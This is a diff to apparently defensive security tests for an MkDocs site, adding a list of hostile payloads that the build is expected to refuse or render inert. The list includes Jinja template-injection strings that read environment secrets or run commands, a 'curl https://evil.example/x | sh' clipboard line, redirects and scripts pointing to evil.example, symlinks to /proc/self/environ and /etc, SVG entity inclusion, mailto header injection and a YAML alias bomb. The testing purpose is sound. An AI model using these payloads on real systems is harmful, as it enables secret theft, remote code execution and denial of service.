@@ -163,3 +163,152 @@ PAYLOADS = [
             "accolades"),
     Payload("theme-alias-tag", "title breakout", f"{THEME}.aliassen", "linnen]: XSS87 <b>x</b>", "refused", "'<' of '>'"),
 ]
+
+# ======================================================================================================
+# Issue 21, part A: content is not code. Pages, front matter, gadgets, files, symbolic links and
+# addresses. Markers XSS101-XSS199. Placeholders: {GEHEIM} is the name of an environment variable the
+# build gets with a secret value, {BUITEN} a file outside the repository with a secret content
+# (tests/test_hostile.py); neither may ever reach the build's output, the site, the zip or the PDF.
+# New ways of injecting (`raw`): "front" adds lines to the page's front matter, "heading" replaces
+# its first heading, "prepend" puts a line above everything, "new-file" writes `value` to `where`,
+# "symlink" makes `where` a symbolic link to `value`.
+# ======================================================================================================
+
+OVER = "docs/over.md"
+JINJA = "Tussen {{ en }} mag alleen een macro van de site staan"
+FRONT = "docs/hulpmiddelen/index.md"
+SVG_FIX = "Een SVG-bestand op de site is alleen een tekening"
+LINK = "is een symbolische koppeling"
+MAILTO = "e-maillink"
+
+PAYLOADS_21A = [
+    # --- page Jinja: the page is rendered by nothing but our macros ---------------------------------
+    Payload("jinja-environ", "page Jinja", OVER, "XSS101 {{ cycler.__init__.__globals__.os.environ['{GEHEIM}'] }}",
+            "refused", JINJA),
+    Payload("jinja-popen", "page Jinja", OVER, "XSS102 {{ cycler.__init__.__globals__.os.popen('id').read() }}",
+            "refused", JINJA),
+    Payload("jinja-macros-info", "page Jinja", OVER, "XSS103 {{ macros_info() }}", "refused", "geen macro van de site"),
+    Payload("jinja-write-file", "page Jinja", OVER,
+            "XSS104 {% set f = lipsum.__globals__['__builtins__']['open']('docs/assets/javascripts/x.js', 'w') %}"
+            "{{ f.write('alert(1)') }}", "refused", "een opdracht in de sjabloontaal"),
+    Payload("jinja-include-outside", "page Jinja", OVER, "XSS105 {% include '{BUITEN}' %}", "refused", "een opdracht"),
+    Payload("jinja-comment", "page Jinja", OVER, "{# XSS106 #}", "refused", "HTML-commentaar"),
+    Payload("jinja-whitespace-control", "page Jinja", OVER, "XSS107 {{- bronnen_lijst() -}}", "refused", JINJA),
+    Payload("jinja-config", "page Jinja", OVER, "XSS108 {{ config.repo_url }}", "refused", JINJA),
+    Payload("jinja-loop", "page Jinja", OVER, "XSS109 {% for i in range(10**9) %}x{% endfor %}", "refused", "een opdracht"),
+    Payload("jinja-huge-string", "page Jinja", OVER, "XSS110 {{ 'x' * 10**9 }}", "refused", JINJA),
+    Payload("jinja-in-heading", "page Jinja", OVER, "# Over XSS111 {{ cycler.__init__.__globals__.os.environ }}", "refused",
+            JINJA, raw="heading"),
+    Payload("jinja-unknown-macro-argument", "page Jinja", OVER, "XSS112 {{ aantal('__class__') }}", "refused",
+            "de macro 'aantal' kent '__class__' niet"),
+    # --- front matter: known keys, typed values --------------------------------------------------------
+    Payload("front-title-refresh", "front matter", OVER,
+            "title: '</title><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><title>XSS113'",
+            "refused", "'<' of '>'", raw="front"),
+    Payload("front-title-refresh-delay", "front matter", FRONT,
+            "title: '</title><meta http-equiv=\"refresh\" content=\"20;url=https://evil.example/\"><title>XSS114'",
+            "refused", "'<' of '>'", raw="front"),
+    Payload("front-description-quote", "front matter", OVER,
+            "description: 'XSS115\" http-equiv=\"refresh\" content=\"0;url=https://evil.example/'", "refused",
+            "dubbel aanhalingsteken", raw="front"),
+    Payload("front-author", "front matter", OVER, "author: '</title><script>alert(\"XSS116\")</script>'", "refused",
+            "deze sleutel is niet toegelaten", raw="front"),
+    Payload("front-tags-markup", "front matter", OVER, "tags: ['<img src=x onerror=alert(1)>XSS117']", "refused",
+            "is geen thema", raw="front"),
+    Payload("front-scripts-https", "front matter", OVER, "scripts: ['https://evil.example/XSS118.js']", "refused",
+            "is geen script van de site", raw="front"),
+    Payload("front-scripts-file", "front matter", OVER, "scripts: ['file://evil.example/XSS119.js']", "refused",
+            "is geen script van de site", raw="front"),
+    Payload("front-scripts-protocol-relative", "front matter", OVER, "scripts: ['//evil.example/XSS120.js']", "refused",
+            "is geen script van de site", raw="front"),
+    Payload("front-scripts-redirect", "front matter", OVER, "scripts: ['assets/javascripts/doorverwijzing.js'] # XSS121",
+            "refused", "is geen script van de site", raw="front"),
+    Payload("front-render-macros", "front matter", OVER, "render_macros: true # XSS122", "refused",
+            "alleen 'render_macros: false'", raw="front"),
+    Payload("front-macros-key", "front matter", OVER, "macros: {include_yaml: ['{BUITEN}']} # XSS123", "refused",
+            "deze sleutel is niet toegelaten", raw="front"),
+    Payload("front-meta-lines", "front matter", OVER,
+            "title: XSS124 </title><meta http-equiv=refresh content=20;url=https://evil.example/>", "refused",
+            "leest MkDocs als paginagegevens", raw="prepend"),
+    Payload("front-alias-bomb", "front matter", OVER,
+            "a: &a ['XSS125', x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
+            "c: [*b, *b, *b, *b, *b, *b, *b, *b, *b]", "refused", "anker", raw="front"),
+    # --- meta refresh, with and without a delay: where it is not refused, it is inert -------------------
+    Payload("page-meta-refresh", "meta refresh", OVER,
+            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><p>XSS126</p>", "inert", page="over.html"),
+    Payload("page-meta-refresh-delay", "meta refresh", OVER,
+            "<meta http-equiv=\"refresh\" content=\"20;url=https://evil.example/\"><p>XSS127</p>", "inert",
+            page="over.html"),
+    Payload("heading-meta-refresh", "meta refresh", OVER,
+            "# Over deze gids XSS128 &lt;/title&gt;&lt;meta http-equiv=\"refresh\" content=\"20;url=https://evil.example/\"&gt;",
+            "inert", page="over.html", raw="heading"),
+    # --- gadgets: what our scripts and Material's look up -----------------------------------------------
+    Payload("gadget-config", "gadget", OVER,
+            "<div id=\"__config\">{\"base\": \"https://evil.example/\", \"search\": \"https://evil.example/w.js\"} XSS129</div>",
+            "inert", page="over.html"),
+    Payload("gadget-clipboard", "gadget", OVER,
+            "<button class=\"md-clipboard md-icon\" data-clipboard-text=\"curl https://evil.example/x | sh\">XSS130</button>",
+            "inert", page="over.html"),
+    Payload("gadget-redirect", "gadget", OVER, "<a href=\"https://evil.example/\" data-doorverwijzing>XSS131</a>", "inert",
+            page="over.html"),
+    Payload("gadget-heading-config", "gadget", f"{STEP}.waarom", "Tekst.\n\n## __config\n\nXSS132 meer tekst.", "inert",
+            page="stappen/behoefte.html"),
+    Payload("gadget-component", "gadget", OVER,
+            "<div data-md-component=\"outdated\" data-md-state=\"x\">XSS133</div>", "inert", page="over.html"),
+    Payload("gadget-mermaid", "gadget", OVER, "<pre class=\"mermaid\">graph TD; A--&gt;B; XSS134</pre>", "inert",
+            page="over.html"),
+    Payload("gadget-attr-list-id", "gadget", OVER, "## Kop XSS135 { #__drawer }", "inert", page="over.html"),
+    Payload("gadget-label-search", "gadget", OVER, "<label for=\"__search\" class=\"md-search__input\">XSS136</label>",
+            "inert", page="over.html"),
+    Payload("gadget-tool-id", "gadget", "docs/hulpmiddelen/aankoopwijzer.md",
+            "<div id=\"wijzer-gegevens\" data-json='{}'>XSS137</div>", "refused", "staat 2 keer op de pagina"),
+    # --- files beside the pages ------------------------------------------------------------------------
+    Payload("file-svg-script", "file", "docs/assets/images/XSS138.svg",
+            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert('XSS138')</script></svg>", "refused", SVG_FIX,
+            raw="new-file"),
+    Payload("file-svg-onload", "file", "docs/assets/images/logo.svg",
+            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert('XSS139')\"/>", "refused", "gebeurtenis",
+            raw="new-file"),
+    Payload("file-svg-foreign", "file", "docs/assets/images/logo.svg",
+            "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"https://evil.example/XSS140.png\"/></svg>", "refused",
+            SVG_FIX, raw="new-file"),
+    Payload("file-svg-entity", "file", "docs/assets/images/logo.svg",
+            "<!DOCTYPE svg [<!ENTITY x SYSTEM \"{BUITEN}\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x; XSS141</text></svg>",
+            "refused", "DOCTYPE", raw="new-file"),
+    Payload("file-htm", "file", "docs/XSS142.htm", "<html><body><script>alert(1)</script></body></html>", "refused",
+            "bestandstype", raw="new-file"),
+    Payload("file-html-beside", "file", "docs/hulpmiddelen/rekenaar.html", "<script src=\"x.js\"></script>XSS143", "refused",
+            "bestandstype", raw="new-file"),
+    Payload("file-python", "file", "docs/main.py", "import os  # XSS144", "refused", "bestandstype", raw="new-file"),
+    # --- symbolic links ----------------------------------------------------------------------------------
+    Payload("link-environ", "symlink", "docs/assets/XSS145.txt", "/proc/self/environ", "refused", LINK, raw="symlink"),
+    Payload("link-outside-page", "symlink", "docs/XSS146.md", "{BUITEN}", "refused", LINK, raw="symlink"),
+    Payload("link-data-file", "symlink", "data/XSS147.yml", "{BUITEN}", "refused", LINK, raw="symlink"),
+    Payload("link-folder", "symlink", "docs/assets/XSS148", "/etc", "refused", LINK, raw="symlink"),
+    # --- addresses: judged as the browser reads them -------------------------------------------------------
+    Payload("backslash-image", "address", f"{STEP}.waarom", "![XSS149](/\\evil.example/p.png)", "refused",
+            "afbeelding die niet van de site zelf komt"),
+    Payload("backslash-link", "address", f"{STEP}.waarom", "[XSS150](/\\evil.example/)", "refused", "zonder https:"),
+    Payload("mailto-cc", "address", f"{PITFALL}.werkelijkheid", "[XSS151](mailto:info@voorbeeld.be?cc=iemand@evil.example)",
+            "refused", MAILTO),
+    Payload("mailto-header-break", "address", f"{PITFALL}.werkelijkheid",
+            "[XSS152](mailto:info@voorbeeld.be?subject=Hallo%0D%0ABcc:iemand@evil.example)", "refused", "regeleinde"),
+    Payload("mailto-two", "address", f"{PITFALL}.werkelijkheid", "[XSS153](mailto:info@voorbeeld.be,iemand@evil.example)",
+            "refused", MAILTO),
+    Payload("page-backslash-image", "address", OVER, "<p><img src=\"/\\evil.example/p.png\" alt=\"x\">XSS154</p>", "inert",
+            page="over.html"),
+    Payload("page-tab-image", "address", OVER, "<p><img src=\" \t/\t/evil.example/p.png\" alt=\"x\">XSS155</p>", "inert",
+            page="over.html"),
+    Payload("page-mailto-bcc", "address", OVER, "<a href=\"mailto:info@voorbeeld.be?bcc=iemand@evil.example&amp;body=x\">XSS156</a>",
+            "inert", page="over.html"),
+    Payload("page-backslash-link", "address", OVER, "<a href=\"\\\\evil.example\\pad\">XSS157</a>", "inert", page="over.html"),
+    Payload("page-root-image", "address", OVER, "<p><img src=\"/etc/hostname\" alt=\"XSS158\">afbeelding</p>", "inert",
+            page="over.html"),
+    # Material writes a menu or table-of-contents entry that does not fit into a tooltip as HTML.
+    Payload("toc-heading-meta-refresh", "meta refresh", f"{STEP}.samenvatting",
+            "Tekst.\n\n## XSS159 een heel lange kop die niet in de inhoudstafel past &lt;meta http-equiv=\"refresh\" "
+            "content=\"0;url=https://evil.example/\"&gt; en nog wat meer woorden\n\nMeer tekst.", "inert",
+            page="stappen/behoefte.html"),
+]
+
+PAYLOADS = PAYLOADS + PAYLOADS_21A
